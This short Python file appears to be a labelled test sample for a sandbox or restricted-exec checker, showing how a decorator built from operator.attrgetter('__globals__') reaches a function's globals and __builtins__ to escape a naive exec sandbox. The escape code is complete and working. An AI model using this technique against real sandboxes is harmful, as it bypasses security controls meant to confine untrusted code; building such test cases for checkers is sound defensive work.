# ruff: noqa - a hostile script, kept as written
# threat: 4 evaluate code or attribute paths outside the checks
# technique: a decorator that is operator.attrgetter('__globals__')
# naive exec: escapes: decorators apply any callable to the function object
import operator


@operator.attrgetter("__globals__")
def captured():
    return None


result = "ESCAPED " + str(sorted(captured["__builtins__"])[:3])
